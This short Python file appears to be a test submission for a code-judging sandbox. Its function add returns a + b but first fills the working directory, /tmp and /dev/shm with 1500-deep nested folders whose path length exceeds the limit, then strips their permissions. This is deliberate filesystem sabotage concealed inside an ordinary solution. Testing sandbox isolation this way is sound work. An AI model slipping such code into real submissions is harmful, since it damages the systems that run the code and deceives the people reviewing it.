# expect: correct | time_limit
# assignment: add
# how: Folders within folders, deeper than a path may be long, in every place that it can write to.
# needs: processes
import os


def add(a, b):
    home = os.getcwd()
    for place in (".", "/tmp", "/dev/shm"):
        try:
            os.chdir(place)
            for _ in range(1500):
                os.mkdir("d" * 100)
                os.chdir("d" * 100)
            os.chmod(".", 0)
        except OSError:
            pass
        os.chdir(home)
    return a + b
